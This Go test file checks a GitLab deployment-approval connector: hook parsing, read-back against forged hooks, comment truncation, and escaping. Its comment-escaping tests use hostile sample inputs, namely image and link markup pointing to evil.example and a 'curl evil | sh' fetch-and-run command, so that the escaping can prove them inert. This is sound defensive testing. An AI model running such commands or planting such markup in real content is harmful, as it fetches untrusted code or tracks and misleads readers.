package gitlab

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/tollgate-dev/tollgate/connectors"
	"github.com/tollgate-dev/tollgate/connectors/internal/apiclient"
	"github.com/tollgate-dev/tollgate/connectors/internal/hooktest"
	"github.com/tollgate-dev/tollgate/core"
)

func blockedHook(t testing.TB, mutate func(map[string]any)) []byte {
	raw, err := os.ReadFile("testdata/deployment_hook.json")
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	_ = json.Unmarshal(raw, &m)
	m["status"], m["commit_title"] = "blocked", "CHG0001234 add new file"
	if mutate != nil {
		mutate(m)
	}
	b, _ := json.Marshal(m)
	return b
}

// TestBlockedDeployment: a Deployment Hook with status blocked is a gate
// request (other statuses are deployments, mapped as usual), answered
// through the approval API with the token; a refusal for good is not
// transient.
func TestBlockedDeployment(t *testing.T) {
	var got map[string]string
	status := 201
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet && r.URL.EscapedPath() == "/api/v4/projects/root%2Ftest-deployment-webhooks/deployments/15" {
			_, _ = w.Write([]byte(`{"id":15,"status":"blocked"}`)) // a GitLab that leaves the rest out: the hook's stand
			return
		}
		if r.URL.EscapedPath() != "/api/v4/projects/root%2Ftest-deployment-webhooks/deployments/15/approval" || r.Header.Get("PRIVATE-TOKEN") != "glpat-x" {
			w.WriteHeader(401)
			return
		}
		_ = json.NewDecoder(r.Body).Decode(&got)
		w.WriteHeader(status)
		_, _ = w.Write([]byte(`{"message":"Deployment is not blocked"}`))
	}))
	defer srv.Close()
	w, err := New(connectors.Config{Name: "gitlab", Type: Type, WebhookSecret: "0123456789abcdef",
		API:    &connectors.API{URL: srv.URL, Token: "glpat-x"},
		CIGate: &connectors.CIGate{Deadline: time.Hour, ChangeKeyPatterns: []*regexp.Regexp{regexp.MustCompile(`CHG\d{7}`)}}})
	if err != nil {
		t.Fatal(err)
	}
	p, ok, err := w.GateRequest(context.Background(), "Deployment Hook", blockedHook(t, nil))
	r := p.Request
	if err != nil || !ok || r.Service != "test-deployment-webhooks" || r.Environment != "staging" ||
		r.Commit != "279484c09fbe69ededfced8c1bb6e6d24616b468" || strings.Join(r.Changes, ",") != "CHG0001234" ||
		p.ExternalID != "deployment:15" || !strings.HasSuffix(p.RunURL, "/-/jobs/796") {
		t.Fatalf("blocked deployment: %+v %v %v", p, ok, err)
	}
	if _, ok, _ := w.GateRequest(context.Background(), "Deployment Hook", blockedHook(t, func(m map[string]any) { m["status"] = "success" })); ok {
		t.Error("a successful deployment is not a gate request")
	}
	if _, ok, err := w.GateRequest(context.Background(), "Deployment Hook", blockedHook(t, func(m map[string]any) { delete(m, "deployment_id") })); !ok || !core.IsKind(err, core.KindInvalid) {
		t.Errorf("no deployment id: %v %v, want invalid", ok, err)
	}
	if err := w.Answer(context.Background(), p, true, "tollgate: allow"); err != nil || got["status"] != "approved" || got["comment"] != "tollgate: allow" {
		t.Fatalf("approve: %v %v", err, got)
	}
	status = 400
	if err := w.Answer(context.Background(), p, false, "no"); err == nil || core.IsKind(err, core.KindUnavailable) || !strings.Contains(err.Error(), "not blocked") {
		t.Fatalf("refused approval: %v, want a final error with GitLab's message", err)
	}
}

// TestAnswerConfirmedProject: the answer goes to the project the
// deployment was read back and confirmed in, by its path, not to the
// hook's project id, which nothing checked: a forged hook naming the right
// path and deployment with a bogus id (raced ahead of GitLab's own, which
// is then a redelivery of a known request) still has the deployment
// answered.
func TestAnswerConfirmedProject(t *testing.T) {
	var asked []string
	var lastComment string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = append(asked, r.Method+" "+r.URL.EscapedPath())
		switch r.Method + " " + r.URL.EscapedPath() {
		case "GET /api/v4/projects/acme%2Fledger/deployments/15":
			_, _ = w.Write([]byte(`{"id":15,"status":"blocked"}`))
		case "POST /api/v4/projects/acme%2Fledger/deployments/15/approval":
			var body struct{ Comment string }
			_ = json.NewDecoder(r.Body).Decode(&body)
			if lastComment = body.Comment; utf8.RuneCountInString(body.Comment) > 255 {
				w.WriteHeader(400)
				_, _ = w.Write([]byte(`{"message":{"comment":["is too long (maximum is 255 characters)"]}}`))
				return
			}
			w.WriteHeader(201)
			_, _ = w.Write([]byte(`{"status":"approved"}`))
		default:
			w.WriteHeader(404)
			_, _ = w.Write([]byte(`{"message":"404 Project Not Found"}`))
		}
	}))
	defer srv.Close()
	w, err := New(connectors.Config{Name: "gitlab", Type: Type, WebhookSecret: "0123456789abcdef",
		API: &connectors.API{URL: srv.URL, Token: "glpat-x"}, CIGate: &connectors.CIGate{Deadline: time.Hour}})
	if err != nil {
		t.Fatal(err)
	}
	forged := blockedHook(t, func(m map[string]any) {
		project := m["project"].(map[string]any)
		project["id"], project["path_with_namespace"] = 4200, "acme/ledger"
	})
	p, ok, err := w.GateRequest(context.Background(), "Deployment Hook", forged)
	if err != nil || !ok || p.Repository != "acme/ledger" {
		t.Fatalf("gate request: %v %v, repository %q", ok, err, p.Repository)
	}
	if err := w.Answer(context.Background(), p, true, "tollgate: allow"); err != nil {
		t.Fatalf("answer: %v (asked %q), want approved at acme%%2Fledger", err, asked)
	}
	if last := asked[len(asked)-1]; last != "POST /api/v4/projects/acme%2Fledger/deployments/15/approval" {
		t.Fatalf("answered at %q, want the confirmed project acme%%2Fledger", last)
	}
	// GitLab refuses a comment over 255 characters (400): a long answer
	// is cut, its decision id kept.
	long := "tollgate: deny (decision dec-42)\n- NO_CHANGE: " + strings.Repeat("ü", 600)
	if err := w.Answer(context.Background(), p, false, long); err != nil {
		t.Fatalf("a long answer: %v", err)
	}
	q := p
	q.DecisionID = "dec-42"
	if n := utf8.RuneCountInString(lastComment); n > 255 || !sentBy(q, lastComment) {
		t.Fatalf("comment sent: %d characters %q, want at most 255 with its decision id", n, lastComment)
	}
	asked = nil
	if _, _, err := w.AnswerTaken(context.Background(), p, true); err != nil || asked[0] != "GET /api/v4/projects/acme%2Fledger/deployments/15" {
		t.Fatalf("read back at %q: %v, want the confirmed project", asked, err)
	}
}

// TestGateRequestReadBack: a blocked deployment's hook is held to the
// deployment GitLab shows, read by the project's path: evaluated for
// GitLab's commit, ref, user and commit title; refused (KindInvalid, the
// event quarantined) when GitLab does not show it in that project, it no
// longer waits, or it deploys another commit or environment; retried
// (KindUnavailable) when GitLab cannot be read. A refused request still
// names its deployment.
func TestGateRequestReadBack(t *testing.T) {
	sha := "279484c09fbe69ededfced8c1bb6e6d24616b468"
	var status int
	var answer, asked string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = r.Method + " " + r.URL.EscapedPath()
		w.WriteHeader(status)
		_, _ = w.Write([]byte(answer))
	}))
	defer srv.Close()
	w, err := newWebhook(connectors.Config{Name: "gitlab", Type: Type, WebhookSecret: "0123456789abcdef",
		API:    &connectors.API{URL: srv.URL, Token: "glpat-x"},
		CIGate: &connectors.CIGate{Deadline: time.Hour, ChangeKeyPatterns: []*regexp.Regexp{regexp.MustCompile(`CHG\d{7}`)}}},
		apiclient.Options{RetryMax: 1, RetryWaitMin: time.Millisecond, RetryWaitMax: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	deployment := func(status, sha, env string) string {
		return fmt.Sprintf(`{"id":15,"status":%q,"sha":%q,"ref":"release","user":{"username":"alice"},"environment":{"name":%q},
			"deployable":{"id":796,"commit":{"title":"CHG0009999 the real commit"}}}`, status, sha, env)
	}
	short := blockedHook(t, func(m map[string]any) { delete(m, "commit_url") }) // short_sha only
	for _, tc := range []struct {
		name, answer, kind, says string
		status                   int
		hook                     []byte
	}{
		{name: "confirmed", status: 200, answer: deployment("blocked", sha, "staging")},
		{name: "confirmed from the short sha", status: 200, answer: deployment("blocked", sha, "staging"), hook: short},
		{name: "not in this project", status: 404, answer: `{"message":"404 Not found"}`, kind: "invalid", says: "does not show this deployment in this project"},
		{name: "no longer waits", status: 200, answer: deployment("running", sha, "staging"), kind: "invalid", says: "running: it no longer waits"},
		{name: "another commit", status: 200, answer: deployment("blocked", strings.Repeat("d", 40), "staging"), kind: "invalid", says: "deploys " + strings.Repeat("d", 40)},
		{name: "another environment", status: 200, answer: deployment("blocked", sha, "production"), kind: "invalid", says: `deploys to "production"`},
		{name: "token refused", status: 401, answer: `{"message":"401 Unauthorized"}`, kind: "unavailable"},
		{name: "GitLab down", status: 502, answer: `bad gateway`, kind: "unavailable"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			status, answer = tc.status, tc.answer
			hook := tc.hook
			if hook == nil {
				hook = blockedHook(t, nil)
			}
			p, ok, err := w.GateRequest(context.Background(), "Deployment Hook", hook)
			if !ok || asked != "GET /api/v4/projects/root%2Ftest-deployment-webhooks/deployments/15" {
				t.Fatalf("ok %v, asked %q", ok, asked)
			}
			switch tc.kind {
			case "invalid", "unavailable":
				want := core.KindInvalid
				if tc.kind == "unavailable" {
					want = core.KindUnavailable
				}
				if !core.IsKind(err, want) || !strings.Contains(err.Error(), tc.says) || p.ExternalID != "deployment:15" {
					t.Fatalf("%v (external id %q), want %s saying %q", err, p.ExternalID, tc.kind, tc.says)
				}
				return
			}
			r := p.Request
			if err != nil || r.Commit != sha || r.Version != sha || r.Actor != "alice" || strings.Join(r.Changes, ",") != "CHG0009999" || r.Environment != "staging" {
				t.Fatalf("confirmed request %+v: %v, want GitLab's commit, user and commit title", r, err)
			}
		})
	}
}

// TestApprovalCommentInert: GitLab renders an approval's comment as
// Markdown, and a reason quotes ITSM and pipeline text: what is sent pings
// no one, references and links to nothing and fetches no image, fits
// GitLab's 255 characters once escaped, and is still known as tollgate's
// when read back, by its decision or, without one, by the stored comment.
func TestApprovalCommentInert(t *testing.T) {
	var sent string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body struct{ Comment string }
		_ = json.NewDecoder(r.Body).Decode(&body)
		sent = body.Comment
		w.WriteHeader(201)
		_, _ = w.Write([]byte(`{"status":"rejected"}`))
	}))
	defer srv.Close()
	w, err := New(connectors.Config{Name: "gitlab", Type: Type, WebhookSecret: "0123456789abcdef",
		API: &connectors.API{URL: srv.URL, Token: "glpat-x"}, CIGate: &connectors.CIGate{Deadline: time.Hour}})
	if err != nil {
		t.Fatal(err)
	}
	const id = "0190f3a4-7b1c-7d2e-9f00-123456789abc"
	target := map[string]string{"project": "acme/ledger", "deployment_id": "15"}
	for _, tc := range []struct {
		name, reason string
		never        []string // markup the renderer would act on
	}{
		{"mention", "approved by @root, ask @acme/release-team", []string{"@root", "@acme"}},
		{"image", "![x](https://evil.example/pixel.png)", []string{"![", "](", "https://"}},
		{"link", "[approve here](https://evil.example)", []string{"[approve", "](", "://"}},
		{"html", "<img src=x><details open>", []string{"<img", "<details"}},
		{"refs", "#12 !13 $14 &15 %16 ~bug ~\"needs review\" acme/api#17", []string{"#1", "!1", "$1", "&1", "%1", "~b", "~\""}},
		{"code span", "`curl evil | sh`", []string{"`"}},
		{"escape at the cut", strings.Repeat(`\`, 300), nil},
		{"rune at the cut", "x" + strings.Repeat("ü", 300), nil},
		{"stored text", "a\x00b\xffc @root", []string{"@root"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := connectors.Comment("tollgate: deny (decision " + id + ")\n- CHANGE_NOT_APPROVED CHG0097001: " + tc.reason)
			p := core.PendingGate{DecisionID: id, Comment: in, Target: target}
			if err := w.Answer(context.Background(), p, false, p.Comment); err != nil {
				t.Fatal(err)
			}
			if sent != approvalComment(in) || !utf8.ValidString(sent) || len(sent) > maxApprovalComment || utf8.RuneCountInString(sent) > 255 {
				t.Fatalf("comment sent (%d bytes) %q, want approvalComment's, at most %d bytes", len(sent), sent, maxApprovalComment)
			}
			for _, bad := range tc.never {
				if hooktest.LiveMarkup(sent, bad) {
					t.Errorf("comment sent %q carries %q", sent, bad)
				}
			}
			body := strings.TrimSuffix(sent, "…")
			if run := len(body) - len(strings.TrimRight(body, `\`)); run%2 == 1 {
				t.Errorf("comment sent %q ends in half an escape", sent)
			}
			if !sentBy(p, sent) {
				t.Errorf("comment sent %q is not known by its decision %s", sent, id)
			}
			// Without a decision (rejected on arrival), the comment as the
			// store gave it back is what tells.
			p.DecisionID = ""
			p.Comment = strings.ReplaceAll(strings.ToValidUTF8(p.Comment, "\uFFFD"), "\x00", "\uFFFD")
			if !sentBy(p, sent) {
				t.Errorf("comment sent %q is not known by the stored comment %q", sent, p.Comment)
			}
		})
	}
}

// TestSentBy: an approval is tollgate's when its comment names the
// decision, escaped as sent or plain as a tollgate sent it before
// escaping; without a decision, when it is the comment as sent (or, from
// before, plain and cut); nothing else is.
func TestSentBy(t *testing.T) {
	const plainComment = "tollgate: deny (decision dec-1)\n- NO_CHANGE: no change"
	withID := core.PendingGate{DecisionID: "dec-1", Comment: plainComment}
	noID := core.PendingGate{Comment: "tollgate: deny\n- TOO_MANY_WAITING acme/api: 5 requests wait"}
	long := core.PendingGate{Comment: "tollgate: deny\n- TOO_MANY_WAITING: " + strings.Repeat("x", 300)}
	for _, tc := range []struct {
		name    string
		p       core.PendingGate
		comment string
		want    bool
	}{
		{"escaped decision", withID, approvalComment(plainComment), true},
		{"plain decision", withID, plainComment, true},
		{"another decision", withID, approvalComment("tollgate: allow (decision dec-10)"), false},
		{"other approver", withID, "LGTM", false},
		{"escaped comment", noID, approvalComment(noID.Comment), true},
		{"plain comment", noID, noID.Comment, true},
		{"escaped comment cut", long, approvalComment(long.Comment), true},
		{"plain comment cut", long, apiclient.Clip(long.Comment, maxApprovalComment), true},
		{"another comment", noID, approvalComment("tollgate: deny"), false},
		{"empty", core.PendingGate{}, "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := sentBy(tc.p, tc.comment); got != tc.want {
				t.Errorf("sentBy(%q) = %v, want %v", tc.comment, got, tc.want)
			}
		})
	}
}

// TestAnswerTaken: after GitLab refused a repeated answer, the deployment
// is read back and the answer counts as taken only when tollgate's own
// approval (known by the decision its comment names) carries the status
// sent; a failed read is transient or final as GitLab's status says.
func TestAnswerTaken(t *testing.T) {
	var answer string
	status := 200
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet || r.URL.EscapedPath() != "/api/v4/projects/acme%2Fledger/deployments/15" || r.Header.Get("PRIVATE-TOKEN") != "glpat-x" {
			w.WriteHeader(404)
			return
		}
		w.WriteHeader(status)
		_, _ = w.Write([]byte(answer))
	}))
	defer srv.Close()
	w, err := New(connectors.Config{Name: "gitlab", Type: Type, WebhookSecret: "0123456789abcdef",
		API: &connectors.API{URL: srv.URL, Token: "glpat-x"}, CIGate: &connectors.CIGate{Deadline: time.Hour}})
	if err != nil {
		t.Fatal(err)
	}
	p := core.PendingGate{DecisionID: "dec-1", Comment: "tollgate: allow (decision dec-1)",
		Target: map[string]string{"project_id": "30", "project": "acme/ledger", "deployment_id": "15"}}
	ours := `{"status":%q,"comment":"tollgate: allow (decision dec-1): change CHG0001234 approved"}`
	other := `{"status":"approved","comment":"LGTM"}`
	for _, tc := range []struct {
		name      string
		status    int
		body      string
		approved  bool
		taken     bool
		why, kind string
	}{
		{name: "ours approved", status: 200, body: `{"status":"running","approvals":[` + other + `,` + fmt.Sprintf(ours, "approved") + `]}`, approved: true, taken: true, why: "tollgate's among them approved"},
		{name: "ours rejected", status: 200, body: `{"status":"canceled","approvals":[` + fmt.Sprintf(ours, "rejected") + `]}`, approved: false, taken: true},
		{name: "ours the other way", status: 200, body: `{"status":"blocked","approvals":[` + fmt.Sprintf(ours, "rejected") + `]}`, approved: true, why: "rejected where approved was sent"},
		{name: "not ours", status: 200, body: `{"status":"running","approvals":[` + other + `]}`, approved: true, why: "none of them tollgate's"},
		{name: "no approvals", status: 200, body: `{"status":"blocked"}`, approved: true, why: "blocked with 0 approval(s)"},
		{name: "garbage", status: 200, body: `<html>`, approved: true, kind: "unavailable"},
		{name: "server error", status: 502, body: `{"message":"bad gateway"}`, approved: true, kind: "unavailable"},
		{name: "gone", status: 404, body: `{"message":"404 Deployment Not Found"}`, approved: true, kind: "invalid"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			status, answer = tc.status, tc.body
			taken, why, err := w.AnswerTaken(context.Background(), p, tc.approved)
			switch tc.kind {
			case "unavailable":
				if !core.IsKind(err, core.KindUnavailable) {
					t.Fatalf("err %v, want unavailable", err)
				}
				return
			case "invalid":
				if err == nil || core.IsKind(err, core.KindUnavailable) {
					t.Fatalf("err %v, want a final error", err)
				}
				return
			}
			if err != nil || taken != tc.taken || !strings.Contains(why, tc.why) {
				t.Fatalf("taken %v %q %v, want %v and %q", taken, why, err, tc.taken, tc.why)
			}
		})
	}
}

// FuzzParseBlockedDeployment: no input panics the parser.
func FuzzParseBlockedDeployment(f *testing.F) {
	f.Add(blockedHook(f, nil))
	f.Add([]byte(`{"status":"blocked","project":null}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		_, _, _ = ParseBlockedDeployment("Deployment Hook", b)
	})
}
